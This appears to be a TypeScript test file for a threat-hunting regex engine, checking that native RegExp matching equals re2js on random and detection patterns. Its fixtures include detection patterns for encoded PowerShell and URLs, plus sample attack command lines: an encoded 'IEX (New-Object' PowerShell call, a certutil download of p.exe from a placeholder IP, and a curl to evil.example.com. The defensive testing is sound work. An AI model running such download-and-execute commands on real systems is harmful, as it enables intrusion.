// Simple RE2 patterns run as native RegExps (functions/native-regex.ts) must find exactly what re2js finds:
// the same match and groups, on every text. Checked on the hunting corpus' kind of patterns and on
// thousands of random patterns of the subset (and of what is outside it: then re2js answers) over random
// texts with the characters the patterns use, non-ASCII text, astral characters and lone surrogates.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compileRegex, regexExtract, regexTest } from '../../src/engine/functions/regex.js';
import { NATIVE_MAX_LENGTH, nativeRegexOf } from '../../src/engine/functions/native-regex.js';

/** What re2js alone gives: group `g` of the first match (null: no match, a group that did not take part, or no such group). */
function re2(p: string, g: number, t: string): string | null {
  const m = compileRegex(p).matcher(t);
  if (!m.find()) return null;
  try {
    return m.group(g);
  } catch {
    return null;
  }
}

test('which patterns run natively: the simple subset whose repeated items cannot split a run two ways', () => {
  const native = ['https?://([^/ ]+)/', '-EncodedCommand\\s+([A-Za-z0-9+/=]+)', '^\\d{1,3}\\.\\d{1,3}$', '(?:a)(b)c', '\\bcmd\\b', 'x\\.y[\\]\\-a]', '\\n[^\\n]+\\n', '\\n.+$', '^\\w+@\\W', 'a\\x41\\x{263a}ü'];
  const notNative = ['a|b', '(ab)+', '(?i)abc', '(?P<n>a)', '\\s*\\s+x', 'a+a', '\\p{L}+', '\\QA\\E', 'a*[ab]', '\\d+\\w', '\\d+x', '.+$', '\\b\\w+', 'a\\d\\d+', 'ab?\\d+', '[[:alpha:]]', '\\Aabc', 'abc\\z', '(a)\\1'];
  for (const p of native) assert.ok(nativeRegexOf(p), p);
  for (const p of notNative) {
    let valid = true;
    try {
      compileRegex(p);
    } catch {
      valid = false;
    }
    if (valid) assert.equal(nativeRegexOf(p), undefined, p);
  }
});

const ATOMS = ['a', 'b', 'x', '.', '\\.', '-', '/', ' ', '\\s', '\\S', '\\d', '\\D', '\\w', '\\W', '[ab]', '[^a]', '[a-c]', '[^/ ]', '[\\d.]', '[\\s\\w]', '[-a]', '[]a]', 'ü', '😀', '\\x41', '\\t', '\\b', '\\B', '^', '$', '\\n', '[^\\n]', '\\+', '[+/=]'];
const QUANTIFIERS = ['', '', '', '*', '+', '?', '{2}', '{1,3}', '{2,}', '*?', '+?', '??', '{0,2}?'];

function randomPattern(r: () => number): string {
  let p = '';
  const n = 1 + Math.floor(r() * 6);
  let open = 0;
  for (let k = 0; k < n; k++) {
    const x = r();
    if (x < 0.12) {
      p += r() < 0.7 ? '(' : '(?:';
      open++;
      continue;
    }
    if (x < 0.2 && open > 0) {
      p += ')';
      open--;
      if (r() < 0.1) p += '+'; // a quantified group: re2js's
      continue;
    }
    if (x < 0.23) p += '|';
    const a = ATOMS[Math.floor(r() * ATOMS.length)]!;
    p += a;
    if (!['^', '$', '\\b', '\\B'].includes(a)) p += QUANTIFIERS[Math.floor(r() * QUANTIFIERS.length)]!;
  }
  return p + ')'.repeat(open);
}

function randomText(r: () => number): string {
  const chars = ['a', 'b', 'x', 'c', '.', '-', '/', ' ', '\t', '\n', '\r', '1', '9', '_', '+', '=', 'A', 'ü', '😀', '\ud800', '\u2028', 'é', '@'];
  const n = Math.floor(r() * 24);
  let t = '';
  for (let k = 0; k < n; k++) t += chars[Math.floor(r() * chars.length)]!;
  return t;
}

test('extract and matches regex equal re2js on random patterns and texts', () => {
  let seed = 17;
  const r = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
  let nativeCount = 0;
  let compared = 0;
  for (let k = 0; k < 3000; k++) {
    const p = randomPattern(r);
    try {
      compileRegex(p);
    } catch {
      continue; // not RE2: an error either way
    }
    const native = nativeRegexOf(p);
    if (native) nativeCount++;
    for (let j = 0; j < 12; j++) {
      const t = randomText(r);
      for (let g = 0; g <= (native?.groups ?? 1) + 1; g++) assert.equal(regexExtract(p, g, t), re2(p, g, t), `extract(${JSON.stringify(p)}, ${g}, ${JSON.stringify(t)})`);
      assert.equal(regexTest(p, t), compileRegex(p).test(t), `${JSON.stringify(t)} matches regex ${JSON.stringify(p)}`);
      compared++;
    }
  }
  assert.ok(nativeCount > 500, `${nativeCount} native patterns`);
  assert.ok(compared > 20000);
});

test('the hunting patterns equal re2js on command lines, and long texts stay on re2js', () => {
  const patterns: [string, number][] = [['https?://([^/ ]+)/', 1], ['-EncodedCommand\\s+([A-Za-z0-9+/=]+)', 1], ['-EncodedCommand\\s+([A-Za-z0-9+/=]+)', 0], ['\\b(\\d{1,3})\\.(\\d{1,3})\\.\\d{1,3}\\.\\d{1,3}\\b', 2]];
  const texts = [
    'powershell.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA== -x', 'powershell -EncodedCommand  ', 'powershell -EncodedCommand\t\tQUJD+/=', '-EncodedCommand -EncodedCommand abc',
    'certutil -urlcache -split -f http://198.51.100.7/p.exe C:\\p.exe', 'curl https://evil.example.com:8443/a', 'http:// x/', 'https://ünï.example/', 'wget http://a/b http://c/d', '10.0.0.1 and 300.1.2.3', '1.2.3.4.5',
    `powershell -EncodedCommand ${'QUJD'.repeat(NATIVE_MAX_LENGTH / 4)} http://long.example/x`,
  ];
  for (const [p, g] of patterns) {
    assert.ok(nativeRegexOf(p), p);
    for (const t of texts) assert.equal(regexExtract(p, g, t), re2(p, g, t), `${p} on ${t.slice(0, 60)}`);
  }
});
